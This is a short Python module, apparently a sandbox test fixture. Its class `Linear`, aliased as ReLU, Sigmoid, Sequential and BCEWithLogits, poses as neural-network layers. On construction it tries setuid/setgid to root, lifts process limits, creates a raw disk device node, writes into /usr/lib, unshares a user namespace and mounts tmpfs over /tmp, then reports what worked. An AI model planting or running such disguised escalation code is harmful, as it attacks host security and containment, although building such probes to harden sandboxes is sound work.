"""Becomes root, raises its limits, makes a device; then the same as root of a user namespace with a disk of its own."""

import ctypes
import os
import resource

NEWUSER, NEWNS = 0x10000000, 0x00020000
libc = ctypes.CDLL(None, use_errno=True)


def write_much():
    with open("/tmp/large", "wb") as file:
        for _ in range(100):
            file.write(bytes(2**20))


ATTEMPTS = {
    "setuid": lambda: os.setuid(0),
    "setgid": lambda: os.setgid(0),
    "limits": lambda: resource.setrlimit(resource.RLIMIT_NPROC, (resource.RLIM_INFINITY,) * 2),
    "device": lambda: os.mknod("/tmp/disk", 0o60666, os.makedev(8, 0)),
    "write": write_much,
    "interpreter": lambda: open("/usr/lib/note", "w").close(),
}


def managed():
    done = []
    for name, attempt in ATTEMPTS.items():
        try:
            attempt()
            done.append(name)
        except (OSError, ValueError):
            pass
    return done


class Linear:
    def __init__(self, *parameters):
        before = managed()
        libc.unshare(NEWUSER | NEWNS)
        libc.mount(b"none", b"/tmp", b"tmpfs", 0, b"size=100g")
        raise PermissionError(f"managed {before + managed()}")


ReLU = Sigmoid = BCEWithLogits = Sequential = Linear
